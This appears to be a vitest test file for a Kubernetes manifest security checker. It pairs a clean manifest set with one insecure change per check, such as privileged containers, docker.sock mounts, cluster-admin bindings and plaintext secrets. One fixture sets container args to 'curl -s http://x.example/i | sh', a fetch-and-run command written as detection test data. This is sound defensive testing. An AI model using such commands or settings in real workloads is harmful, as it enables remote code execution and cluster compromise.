// A set of manifests that passes every check, and for each check one change that breaks it: that check fails then, and says where.
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { checkResult } from '@yagura/schema'
import { describe, expect, it } from 'vitest'
import { parse, parseAllDocuments } from 'yaml'
import { checkManifests, checksOf } from './check.ts'
import { loadManifestChecks } from './record.ts'

const CONTENT = join(import.meta.dirname, '../../../../content/checks/kubernetes')
const controls = controlsIn(join(CONTENT, '../../controls'))
const records = readdirSync(CONTENT)
  .filter((name) => name.endsWith('.yaml'))
  .flatMap((name) => parse(readFileSync(join(CONTENT, name), 'utf8')) as Json[])
  .map((record) => ({ ...record, controls: controls.filter(({ check }) => check === record.id).map(({ ref }) => ref) }))
const { checks, problems } = loadManifestChecks(records)
const observedAt = '2026-01-01T00:00:00.000Z'

const GOOD = `
apiVersion: v1
kind: Namespace
metadata: { name: shop, labels: { pod-security.kubernetes.io/enforce: restricted } }
---
apiVersion: v1
kind: ResourceQuota
metadata: { name: q, namespace: shop }
---
apiVersion: v1
kind: ServiceAccount
metadata: { name: web, namespace: shop }
automountServiceAccountToken: false
---
apiVersion: apps/v1
kind: Deployment
metadata: { name: web, namespace: shop, labels: { app.kubernetes.io/name: web } }
spec:
  replicas: 2
  selector: { matchLabels: { app: web } }
  template:
    metadata: { labels: { app: web } }
    spec:
      serviceAccountName: web
      automountServiceAccountToken: false
      hostNetwork: false
      securityContext: { runAsNonRoot: true, runAsUser: 10001, runAsGroup: 10001, fsGroup: 10001, seccompProfile: { type: RuntimeDefault } }
      affinity: { podAntiAffinity: { preferredDuringSchedulingIgnoredDuringExecution: [{ weight: 1, podAffinityTerm: { topologyKey: host, labelSelector: { matchLabels: { app: web } } } }] } }
      volumes: [{ name: tmp, emptyDir: { sizeLimit: 10Mi } }]
      containers:
        - name: web
          image: registry.example/shop/web@sha256:${'ab'.repeat(32)}
          ports: [{ containerPort: 8080 }]
          env: [{ name: MODE, value: prod }, { name: PASSWORD_FILE, value: /run/secrets/password }]
          resources: { limits: { cpu: 1, memory: 1Gi }, requests: { cpu: 1, memory: 1Gi } }
          livenessProbe: { httpGet: { port: 8080 } }
          readinessProbe: { httpGet: { port: 8080 } }
          volumeMounts: [{ name: tmp, mountPath: /tmp }]
          securityContext: { privileged: false, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: [ALL] } }
---
apiVersion: policy/v1
kind: PodDisruptionBudget
metadata: { name: web, namespace: shop }
spec: { minAvailable: 1, selector: { matchLabels: { app: web } } }
---
apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata: { name: web, namespace: shop }
spec:
  podSelector: { matchLabels: { app: web } }
  ingress: [{ from: [{ podSelector: { matchLabels: { app: front } } }] }]
  egress: [{ to: [{ podSelector: { matchLabels: { app: db } } }] }]
---
apiVersion: v1
kind: Service
metadata: { name: web, namespace: shop }
spec: { selector: { app: web }, ports: [{ port: 80 }] }
---
apiVersion: v1
kind: Service
metadata: { name: edge, namespace: shop }
spec: { type: LoadBalancer, loadBalancerSourceRanges: [10.0.0.0/8], selector: { app: web } }
---
apiVersion: networking.k8s.io/v1
kind: Ingress
metadata: { name: web, namespace: shop, annotations: { a: b } }
spec: { tls: [{ secretName: t }], rules: [{ host: shop.example }] }
---
apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata: { name: other, namespace: shop }
spec: { minReplicas: 2, scaleTargetRef: { kind: Deployment, name: other } }
---
apiVersion: batch/v1
kind: Job
metadata: { name: once, namespace: shop }
spec: { ttlSecondsAfterFinished: 60 }
---
apiVersion: batch/v1
kind: CronJob
metadata: { name: nightly, namespace: shop, labels: { app: nightly } }
spec: { concurrencyPolicy: Forbid }
---
apiVersion: v1
kind: Pod
metadata: { name: owned, namespace: shop, ownerReferences: [{ kind: ReplicaSet, name: x }] }
---
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: { name: reader, namespace: shop }
rules: [{ apiGroups: [''], resources: [configmaps, pods], verbs: [get, list] }]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: { name: reader, namespace: shop }
roleRef: { kind: Role, name: reader }
subjects: [{ kind: ServiceAccount, name: web, namespace: shop }]
---
apiVersion: v1
kind: ConfigMap
metadata: { name: settings, namespace: shop }
data: { colour: red, tokens_per_minute: "5" }
---
apiVersion: v1
kind: Secret
metadata: { name: login, namespace: shop }
type: Opaque
`

type Json = Record<string, unknown>

/** Tables of sections and the checks that answer them. */
function controlsIn(directory: string) {
  return readdirSync(directory).flatMap((name) => {
    const { framework, sections } = parse(readFileSync(join(directory, name), 'utf8')) as {
      framework?: string
      sections?: Record<string, string[]>
    }
    if (framework === undefined) return []
    return Object.entries(sections ?? {}).flatMap(([section, checks]) =>
      checks.map((check) => ({ check, ref: { framework, section } })),
    )
  })
}
const good = [parseAllDocuments(GOOD)].flat().map((document) => document.toJS() as Json)

function run(documents: readonly unknown[], profile?: string) {
  return checkManifests(documents, { checks, observedAt, ...(profile === undefined ? {} : { profile }) })
}

/** The good set with one value changed; `undefined` takes it away. */
function changed(kind: string, path: string, value: unknown): Json[] {
  const documents = structuredClone(good)
  let at = documents.find((one) => one.kind === kind) as Json
  const parts = path.split('.')
  const last = parts.pop() as string
  for (const part of parts) {
    at[part] ??= {}
    at = at[part] as Json
  }
  if (value === undefined) delete at[last]
  else at[last] = value
  return documents
}

const D = 'Deployment'
const SPEC = 'spec.template.spec'
const MAIN = `${SPEC}.containers.0`
const CONTEXT = `${MAIN}.securityContext`
const rule = (resources: string[], verbs: string[], apiGroups = ['']) => [{ apiGroups, resources, verbs }]
const hostPath = (path: string) => [{ name: 'tmp', hostPath: { path } }]

const breaks: Readonly<Record<string, readonly [string, string, unknown]>> = {
  'K8S-CTR-01': [D, `${CONTEXT}.privileged`, true],
  'K8S-CTR-02': [D, `${CONTEXT}.allowPrivilegeEscalation`, undefined],
  'K8S-CTR-03': [D, `${SPEC}.securityContext`, {}],
  'K8S-CTR-04': [D, `${CONTEXT}.runAsUser`, 0],
  'K8S-CTR-05': [D, `${CONTEXT}.capabilities`, { drop: ['CHOWN'] }],
  'K8S-CTR-06': [D, `${CONTEXT}.capabilities`, { drop: ['ALL'], add: ['NET_RAW'] }],
  'K8S-CTR-07': [D, `${CONTEXT}.capabilities.add`, ['CAP_SYS_ADMIN']],
  'K8S-CTR-08': [D, `${CONTEXT}.readOnlyRootFilesystem`, false],
  'K8S-CTR-09': [D, `${CONTEXT}.seccompProfile`, { type: 'Unconfined' }],
  'K8S-CTR-10': [
    D,
    'spec.template.metadata.annotations',
    { 'container.apparmor.security.beta.kubernetes.io/web': 'unconfined' },
  ],
  'K8S-CTR-11': [D, `${CONTEXT}.procMount`, 'Unmasked'],
  'K8S-CTR-12': [D, `${MAIN}.ports`, [{ containerPort: 8080, hostPort: 8080 }]],
  'K8S-CTR-13': [D, `${MAIN}.resources.limits.memory`, undefined],
  'K8S-CTR-14': [D, `${MAIN}.resources.requests`, undefined],
  'K8S-CTR-15': [D, `${MAIN}.resources.requests.cpu`, undefined],
  'K8S-CTR-16': [D, `${MAIN}.resources`, undefined],
  'K8S-CTR-17': [D, `${MAIN}.livenessProbe`, undefined],
  'K8S-CTR-18': [D, `${MAIN}.readinessProbe`, undefined],
  'K8S-CTR-19': [D, `${MAIN}.image`, 'registry.example:5000/shop/web'],
  'K8S-CTR-20': [D, `${MAIN}.image`, 'registry.example/shop/web:1.2'],
  'K8S-CTR-21': [D, `${MAIN}.image`, 'registry.example/shop/web:1.2'],
  'K8S-CTR-22': [D, `${MAIN}.image`, 'library/nginx:1.27'],
  'K8S-CTR-23': [D, `${MAIN}.env`, [{ name: 'DB_PASSWORD', value: 'hunter2hunter2' }]],
  'K8S-CTR-24': [D, `${MAIN}.env`, [{ name: 'A', valueFrom: { secretKeyRef: { name: 's', key: 'k' } } }]],
  'K8S-CTR-25': [D, `${MAIN}.ports`, [{ containerPort: 22 }]],
  'K8S-CTR-26': [D, `${MAIN}.ports`, [{ containerPort: 80 }]],
  'K8S-CTR-27': [D, `${CONTEXT}.runAsUser`, 999],
  'K8S-CTR-28': [D, `${CONTEXT}.windowsOptions`, { hostProcess: true }],
  'K8S-CTR-29': [D, `${MAIN}.volumeMounts`, [{ name: 'tmp', mountPropagation: 'Bidirectional' }]],
  'K8S-CTR-30': [
    D,
    `${MAIN}.env`,
    [
      { name: 'A', value: '1' },
      { name: 'A', value: '2' },
    ],
  ],
  'K8S-CTR-31': [D, `${MAIN}.args`, ['-c', 'curl -s http://x.example/i | sh']],
  'K8S-POD-01': [D, `${SPEC}.hostNetwork`, true],
  'K8S-POD-02': [D, `${SPEC}.hostPID`, true],
  'K8S-POD-03': [D, `${SPEC}.hostIPC`, true],
  'K8S-POD-04': [D, `${SPEC}.volumes`, hostPath('/srv/data')],
  'K8S-POD-05': [D, `${SPEC}.volumes`, hostPath('/var/run/docker.sock')],
  'K8S-POD-06': [D, `${SPEC}.volumes`, hostPath('/etc')],
  'K8S-POD-07': [D, `${SPEC}.volumes`, hostPath('/srv/data')],
  'K8S-POD-08': [D, `${SPEC}.automountServiceAccountToken`, true],
  'K8S-POD-09': [D, `${SPEC}.serviceAccountName`, undefined],
  'K8S-POD-10': [D, `${SPEC}.shareProcessNamespace`, true],
  'K8S-POD-11': [D, `${SPEC}.securityContext.sysctls`, [{ name: 'kernel.msgmax', value: '1' }]],
  'K8S-POD-12': [D, `${SPEC}.hostAliases`, [{ ip: '1.2.3.4' }]],
  'K8S-POD-13': [D, `${SPEC}.tolerations`, [{ operator: 'Exists' }]],
  'K8S-POD-14': [D, 'metadata.namespace', undefined],
  'K8S-POD-15': [D, 'metadata.namespace', 'kube-system'],
  'K8S-POD-16': [D, SPEC, { serviceAccount: 'web', containers: [] }],
  'K8S-POD-17': [D, `${SPEC}.securityContext.fsGroup`, 0],
  'K8S-POD-18': [D, `${SPEC}.priorityClassName`, 'system-node-critical'],
  'K8S-POD-19': [D, `${SPEC}.nodeName`, 'n1'],
  'K8S-POD-20': [D, `${SPEC}.volumes`, [{ name: 'tmp', emptyDir: {} }]],
  'K8S-POD-21': [D, `${CONTEXT}.seLinuxOptions`, { type: 'spc_t' }],
  'K8S-WL-01': [D, 'spec.replicas', undefined],
  'K8S-WL-02': ['Pod', 'metadata.ownerReferences', undefined],
  'K8S-WL-03': [D, 'spec.selector.matchLabels', { app: 'other' }],
  'K8S-WL-04': ['PodDisruptionBudget', 'spec.selector.matchLabels', { app: 'other' }],
  'K8S-WL-05': [D, `${SPEC}.affinity`, undefined],
  'K8S-WL-06': [D, 'spec.strategy', { type: 'Recreate' }],
  'K8S-WL-07': [D, 'apiVersion', 'extensions/v1beta1'],
  'K8S-WL-08': ['Job', 'spec.ttlSecondsAfterFinished', undefined],
  'K8S-WL-09': ['CronJob', 'spec.concurrencyPolicy', undefined],
  'K8S-WL-10': [D, 'metadata.labels', undefined],
  'K8S-WL-11': ['PodDisruptionBudget', 'spec.maxUnavailable', 0],
  'K8S-WL-12': ['HorizontalPodAutoscaler', 'spec.minReplicas', undefined],
  'K8S-RBAC-01': ['RoleBinding', 'roleRef.name', 'cluster-admin'],
  'K8S-RBAC-02': ['Role', 'rules', rule(['pods'], ['*'])],
  'K8S-RBAC-03': ['Role', 'rules', rule(['secrets'], ['list'])],
  'K8S-RBAC-04': ['Role', 'rules', rule(['pods'], ['create'])],
  'K8S-RBAC-05': ['Role', 'rules', rule(['roles'], ['bind'], ['rbac.authorization.k8s.io'])],
  'K8S-RBAC-06': ['Role', 'rules', rule(['nodes/proxy'], ['get'])],
  'K8S-RBAC-07': ['Role', 'rules', rule(['serviceaccounts/token'], ['create'])],
  'K8S-RBAC-08': [
    'Role',
    'rules',
    rule(['mutatingwebhookconfigurations'], ['patch'], ['admissionregistration.k8s.io']),
  ],
  'K8S-RBAC-09': ['Role', 'rules', rule(['certificatesigningrequests/approval'], ['update'], ['certificates.k8s.io'])],
  'K8S-RBAC-10': ['Role', 'rules', rule(['persistentvolumes'], ['create'])],
  'K8S-RBAC-11': ['Role', 'rules', rule(['pods/exec'], ['create'])],
  'K8S-RBAC-12': ['Role', 'rules', rule(['events'], ['delete'])],
  'K8S-RBAC-13': ['Role', 'rules', rule(['rolebindings'], ['create'], ['rbac.authorization.k8s.io'])],
  'K8S-RBAC-14': ['RoleBinding', 'subjects', [{ kind: 'User', name: 'system:anonymous' }]],
  'K8S-RBAC-15': ['RoleBinding', 'subjects', [{ kind: 'Group', name: 'system:authenticated' }]],
  'K8S-RBAC-16': ['RoleBinding', 'subjects', [{ kind: 'ServiceAccount', name: 'default' }]],
  'K8S-RBAC-17': ['RoleBinding', 'subjects', [{ kind: 'Group', name: 'system:masters' }]],
  'K8S-NET-01': ['NetworkPolicy', 'spec.podSelector.matchLabels', { app: 'other' }],
  'K8S-NET-02': ['NetworkPolicy', 'spec.ingress', [{}]],
  'K8S-NET-03': ['NetworkPolicy', 'spec.egress', [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }] }]],
  'K8S-NET-04': ['Service', 'spec.type', 'NodePort'],
  'K8S-NET-05': ['Service', 'spec.type', 'LoadBalancer'],
  'K8S-NET-06': ['Service', 'spec.externalIPs', ['1.2.3.4']],
  'K8S-NET-07': ['Ingress', 'spec.tls', undefined],
  'K8S-NET-08': ['Service', 'spec.selector', { app: 'nothing' }],
  'K8S-NET-09': ['Ingress', 'metadata.annotations', { 'nginx.ingress.kubernetes.io/server-snippet': 'x' }],
  'K8S-NET-10': ['Ingress', 'spec.rules', [{ http: {} }]],
  'K8S-SA-01': ['ServiceAccount', 'automountServiceAccountToken', undefined],
  'K8S-SEC-01': ['Secret', 'type', 'kubernetes.io/service-account-token'],
  'K8S-SEC-02': ['ConfigMap', 'data', { 'db-password': 'hunter2' }],
  'K8S-SEC-03': ['Secret', 'stringData', { a: 'hunter2' }],
  'K8S-NS-01': ['Namespace', 'metadata.labels', undefined],
  'K8S-NS-02': ['ResourceQuota', 'metadata.namespace', 'other'],
}

describe('the records', () => {
  it('are whole, in every language, and each is tested', () => {
    expect(problems).toEqual([])
    expect(checks).toHaveLength(records.length)
    for (const { check } of checks)
      for (const text of [check.title, check.why, check.fix])
        expect(text).toEqual({ en: expect.any(String), ja: expect.any(String), zh: expect.any(String) })
    const ids = checks.filter(({ check }) => check.rule.scope !== 'pod-security').map(({ check }) => check.id)
    expect(Object.keys(breaks).toSorted()).toEqual(ids.toSorted())
  })

  it('are the ones that the table of other tools names', () => {
    const table = parse(readFileSync(join(CONTENT, '../../controls/kubernetes-tools.yaml'), 'utf8')) as object
    const ids = new Set(checks.map(({ check }) => check.id))
    expect(Object.keys(table).filter((id) => !ids.has(id))).toEqual([])
  })

  it('tell what is wrong with them', () => {
    expect(loadManifestChecks([{ id: 'X' }]).problems).toHaveLength(1)
    const [first] = records
    const bad = { ...first, rule: { scope: 'pod', expression: '1 +' } }
    expect(loadManifestChecks([bad]).problems[0]).toMatch(/makes no sense/)
    expect(loadManifestChecks([first, first]).problems[0]).toMatch(/twice/)
  })
})

describe('manifests', () => {
  it('that are good pass everything that is for them', () => {
    const results = run(good)
    expect(
      results
        .filter(({ verdict }) => verdict !== 'pass')
        .map(({ check, resource, message }) => [check, resource, message.en]),
    ).toEqual([])
    expect(new Set(results.map(({ check }) => check)).size).toBe(Object.keys(breaks).length)
  })

  it.each(Object.entries(breaks))('%s fails for what breaks it', (id, [kind, path, value]) => {
    const found = run(changed(kind, path, value), id).filter(({ verdict }) => verdict !== 'pass')
    expect(found).toHaveLength(1)
    expect(found[0]).toMatchObject({ check: id, verdict: 'fail', evidence: [{ source: 'manifest' }] })
    expect(checkResult.safeParse(found[0]).error).toBeUndefined()
  })

  it('say where, what was found, and what would make it pass', () => {
    const [result] = run(changed(D, `${CONTEXT}.privileged`, true), 'K8S-CTR-01')
    expect(result).toMatchObject({
      resource: 'Deployment/shop/web',
      message: { en: 'A container is privileged: spec.template.spec.containers[0].securityContext.privileged' },
      evidence: [{ place: 'spec.template.spec.containers[0].securityContext.privileged', value: 'true' }],
      remediation: { kind: 'patch', after: 'securityContext:\n  privileged: false\n' },
    })
  })

  it('say of a pass what was looked at', () => {
    expect(run(good, 'K8S-CTR-01')[0]).toMatchObject({
      verdict: 'pass',
      message: { en: 'A container is privileged' },
      evidence: [{ place: 'spec.template.spec.containers[0].securityContext.privileged', value: 'false' }],
    })
    expect(run(good, 'pss-baseline')[0]?.evidence).toMatchObject([{ place: 'spec.template.spec', value: null }])
  })

  it('do not show secrets', () => {
    const text = JSON.stringify(run(changed(D, `${MAIN}.env`, [{ name: 'API_TOKEN', value: 'hunter2hunter2' }])))
    expect(text).not.toContain('hunter2')
  })

  it('of every shape give no error verdicts where fields are null, and never throw', () => {
    const odd = [null, 1, 'x', [], {}, { kind: 'Pod' }, { apiVersion: 'v1', kind: 'Pod', metadata: null, spec: null }]
    expect(run(odd).filter(({ verdict }) => verdict === 'pass')).toEqual([])
    const empty = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'p' },
      spec: {
        containers: [{ name: 'a', securityContext: null, resources: null, env: null, ports: null }],
        volumes: null,
        securityContext: null,
      },
    }
    expect(
      run([empty])
        .filter(({ verdict }) => verdict === 'error')
        .map(({ check }) => check),
    ).toEqual([])
  })
})

describe('pods that are none', () => {
  const hidden = { name: 'a', image: 'b', securityContext: { privileged: true } }
  const of = (spec: unknown, kind = 'Pod') => ({
    ...(kind === 'Pod' ? { apiVersion: 'v1' } : { apiVersion: 'apps/v1' }),
    kind,
    metadata: { name: 'x', namespace: 'shop' },
    spec: kind === 'Pod' ? spec : { template: { spec } },
  })

  const ofObjects = new Set(checks.flatMap(({ check }) => (check.rule.scope === 'object' ? [check.id] : [])))

  it.each([
    ['containers that are no list', of({ containers: hidden }), 'spec.containers'],
    ['a container that is none', of({ containers: ['a', hidden] }), 'spec.containers'],
    [
      'init containers',
      of({ containers: [], initContainers: hidden }, 'Deployment'),
      'spec.template.spec.initContainers',
    ],
    ['a spec that is a list', of([{ containers: [hidden] }]), 'spec'],
  ])('%s: nothing passes', (_, object, place) => {
    for (const profile of ['all', 'pss-baseline', 'pss-restricted']) {
      const found = checkManifests([object], { checks, profile, observedAt: '2026-01-01T00:00:00Z' })
      const judged = found.filter(({ check }) => !ofObjects.has(check))
      expect(judged.length, profile).toBeGreaterThan(5)
      expect(new Set(judged.map(({ verdict }) => verdict))).toEqual(new Set(['error']))
      expect(judged[0]?.evidence[0]?.place).toBe(place)
    }
  })
})

describe('objects that are hardly filled in', () => {
  const kinds = [...new Set(checks.flatMap(({ check: { rule } }) => (rule.scope === 'object' ? rule.kinds : [])))]
  const apiVersions: Record<string, string> = {
    DeploymentConfig: 'apps.openshift.io/v1',
    Rollout: 'argoproj.io/v1alpha1',
  }
  const shapes: Json[] = [{}, { metadata: null, spec: null, rules: null, data: null }, { metadata: {}, spec: {} }]

  it.each(kinds)('of %s are judged without an error', (kind) => {
    const documents = shapes.map((shape) => ({ apiVersion: apiVersions[kind] ?? 'apps/v1', kind, ...shape }))
    const found = run(documents).filter(({ verdict }) => verdict === 'error')
    expect(found.map(({ check, evidence }) => [check, evidence[0]?.value])).toEqual([])
  })
})

describe('roles', () => {
  const role = (kind: string, rule: string, name = 'r') =>
    parse(
      `{apiVersion: rbac.authorization.k8s.io/v1, kind: ${kind}, metadata: {name: ${name}}, rules: [${rule}]}`,
    ) as Json
  const failing = (...documents: Json[]) =>
    run(documents, 'K8S-RBAC-*')
      .filter(({ verdict }) => verdict === 'fail')
      .map(({ check, resource }) => `${resource.split('/')[0]} ${check.slice(-2)}`)
      .toSorted()

  it.each([
    ['ClusterRole', "{apiGroups: ['*'], resources: ['*'], verbs: ['*']}", '02 03 04 05 06 07 08 09 10 11 13'],
    ['Role', "{apiGroups: ['*'], resources: ['*'], verbs: ['*']}", '02 03 04 05 07 11 13'],
    ['ClusterRole', "{apiGroups: [''], resources: ['*'], verbs: [get]}", '02 03 06 11'],
    ['Role', "{apiGroups: [''], resources: [pods/attach], verbs: [list]}", ''],
    ['Role', "{apiGroups: [apps], resources: ['*'], verbs: [get, list]}", '02'],
    ['ClusterRole', '{apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve]}', '09'],
    ['ClusterRole', "{apiGroups: [''], resources: ['*/exec'], verbs: [create]}", '11'],
    ['Role', '{apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [bind]}', '05'],
    ['Role', '{apiGroups: [example.com], resources: [roles], verbs: [create]}', ''],
  ])('%s with %s', (kind, rule, wanted) => {
    expect(
      failing(role(kind, rule))
        .map((one) => one.split(' ')[1])
        .join(' '),
    ).toBe(wanted)
  })

  it('that allow everything are cluster-admin to their bindings', () => {
    const binding = {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: 'b' },
      roleRef: { kind: 'ClusterRole', name: 'r' },
      subjects: [{ kind: 'User', name: 'ann' }],
    }
    const bound = (rule: string) => failing(role('ClusterRole', rule), binding).includes('ClusterRoleBinding 01')
    expect(bound("{apiGroups: ['*'], resources: ['*'], verbs: ['*']}")).toBe(true)
    expect(
      bound("{apiGroups: ['*'], resources: ['*'], verbs: [get, list, watch, create, update, patch, delete]}"),
    ).toBe(true)
    expect(bound("{apiGroups: ['*'], resources: ['*'], verbs: [get, list, watch]}")).toBe(false)
  })

  it('that Kubernetes keeps itself are left aside', () => {
    const own = role('ClusterRole', "{apiGroups: ['*'], resources: ['*'], verbs: ['*']}", 'cluster-admin')
    const labels = { 'kubernetes.io/bootstrapping': 'rbac-defaults' }
    expect(failing({ ...own, metadata: { name: 'cluster-admin', labels } })).toEqual([])
  })
})

describe('secrets in plain sight', () => {
  it.each([
    ['dbPassword', 'hunter2', 'fail'],
    ['SECRET_BLAH', 'squirrels', 'fail'],
    ['AZURE_BATCH_KEY', 'xxx', 'fail'],
    ['OCI_CLI_KEY_CONTENT', 'xxx', 'fail'],
    ['the_good_stuff', '---BEGIN OPENSSH PRIVATE KEY---', 'fail'],
    ['GITHUBTOKEN', 'ghp', 'fail'],
    ['TOKENIZER', 'bert', 'pass'],
    ['PASSWORD_FILE', '/run/secrets/p', 'pass'],
    ['greeting', 'hello', 'pass'],
    ['KEYBOARD', 'us', 'pass'],
  ])('%s=%s: %s', (name, value, verdict) => {
    const [result] = run(changed(D, `${MAIN}.env`, [{ name, value }]), 'K8S-CTR-23')
    expect(result?.verdict).toBe(verdict)
  })
})

describe('what makes pods', () => {
  const makers: readonly (readonly [apiVersion: string, kind: string, path: readonly string[]])[] = [
    ['v1', 'Pod', []],
    ['v1', 'PodTemplate', ['template']],
    ['v1', 'ReplicationController', ['spec', 'template']],
    ['apps/v1', 'Deployment', ['spec', 'template']],
    ['extensions/v1beta1', 'DaemonSet', ['spec', 'template']],
    ['apps/v1', 'StatefulSet', ['spec', 'template']],
    ['apps/v1', 'ReplicaSet', ['spec', 'template']],
    ['batch/v1', 'Job', ['spec', 'template']],
    ['batch/v1', 'CronJob', ['spec', 'jobTemplate', 'spec', 'template']],
    ['apps.openshift.io/v1', 'DeploymentConfig', ['spec', 'template']],
    ['argoproj.io/v1alpha1', 'Rollout', ['spec', 'template']],
    ['serving.knative.dev/v1', 'Service', ['spec', 'template']],
    ['apps.kruise.io/v1alpha1', 'CloneSet', ['spec', 'template']],
  ]
  const fields = ['containers', 'initContainers', 'ephemeralContainers']
  const cases = makers.flatMap((maker) => fields.map((field) => [...maker, field] as const))

  it.each(cases)('%s %s (%j) is looked into, at %s', (apiVersion, kind, path, field) => {
    const spec = { [field]: [{ name: 'ok' }, { name: 'bad', securityContext: { privileged: true } }] }
    const inside = path.reduceRight<Json>((inner, name) => ({ [name]: inner }), { spec })
    const whole = { apiVersion, kind, ...inside, metadata: { name: 'x' } }
    const place = [...path, 'spec', `${field}[1]`, 'securityContext.privileged'].join('.')
    for (const document of [whole, { apiVersion: 'v1', kind: 'List', items: [whole] }])
      expect(run([document], 'K8S-CTR-01')).toMatchObject([{ verdict: 'fail', evidence: [{ place, value: 'true' }] }])
  })

  it('is selected by labels and expressions of its own namespace only', () => {
    const deployment = good.find(({ kind }) => kind === D) as Json
    const isolated = (podSelector: unknown, namespace = 'shop') =>
      run(
        [
          deployment,
          { apiVersion: 'networking.k8s.io/v1', kind: 'NetworkPolicy', metadata: { namespace }, spec: { podSelector } },
        ],
        'K8S-NET-01',
      )[0]?.verdict
    expect(isolated({})).toBe('pass')
    expect(isolated({}, 'other')).toBe('fail')
    expect(isolated({ matchExpressions: [{ key: 'app', operator: 'In', values: ['web'] }] })).toBe('pass')
    expect(isolated({ matchExpressions: [{ key: 'app', operator: 'In', values: ['db'] }] })).toBe('fail')
    expect(isolated(undefined)).toBe('fail')
  })
})

it('pods of Windows are not asked for what only Linux has', () => {
  const pod = parse(
    '{apiVersion: v1, kind: Pod, metadata: {name: w}, spec: {os: {name: windows}, containers: [{name: a}]}}',
  )
  const linux = { ...pod, spec: { ...pod.spec, os: { name: 'linux' } } }
  const asked = (one: unknown) => new Set(run([one], 'K8S-CTR-*').map(({ check }) => check.slice(-2)))
  expect([...asked(linux)].filter((id) => !asked(pod).has(id)).toSorted()).toEqual(['02', '05', '06', '08', '09', '27'])
})

describe('replicas that are kept apart', () => {
  const term = (app: string) => ({ topologyKey: 'host', labelSelector: { matchLabels: { app } } })
  const required = (one: unknown) => ({
    affinity: { podAntiAffinity: { requiredDuringSchedulingIgnoredDuringExecution: [one] } },
  })
  it.each([
    ['anti-affinity to itself', required(term('web')), 'pass'],
    ['anti-affinity to another', required(term('db')), 'fail'],
    ['an empty anti-affinity', { affinity: { podAntiAffinity: {} } }, 'fail'],
    ['spread', { affinity: null, topologySpreadConstraints: [term('web')] }, 'pass'],
    ['spread of what is found by itself', { affinity: null, topologySpreadConstraints: [{ maxSkew: 1 }] }, 'pass'],
    ['an empty spread', { affinity: null, topologySpreadConstraints: [] }, 'fail'],
  ])('%s', (_, fields, verdict) => {
    const documents = changed(D, `${SPEC}.x`, undefined)
    const found = documents.find(({ kind }) => kind === D) as { spec: { template: { spec: Json } } }
    Object.assign(found.spec.template.spec, fields)
    expect(run(documents, 'K8S-WL-05')[0]?.verdict).toBe(verdict)
  })
})

describe('profiles', () => {
  it('choose by framework, id, pattern and standard', () => {
    expect(checksOf(checks, 'cis-kubernetes').length).toBeGreaterThan(30)
    expect(checksOf(checks, 'K8S-RBAC-*')).toHaveLength(17)
    expect(checksOf(checks, 'pss-baseline', 30)).toHaveLength(11)
    expect(checksOf(checks, 'pss-baseline', 34)).toHaveLength(12)
    const pod = {
      apiVersion: 'v1',
      kind: 'Pod',
      metadata: { name: 'p' },
      spec: { hostPID: true, containers: [{ name: 'a' }] },
    }
    expect(run([pod], 'pss-baseline').filter(({ verdict }) => verdict === 'fail')).toMatchObject([
      { check: 'PSS-hostNamespaces', evidence: [{ place: 'spec.hostPID is true' }] },
    ])
    expect(run([pod], 'pss-restricted').filter(({ verdict }) => verdict === 'fail')).toHaveLength(5)
  })
})
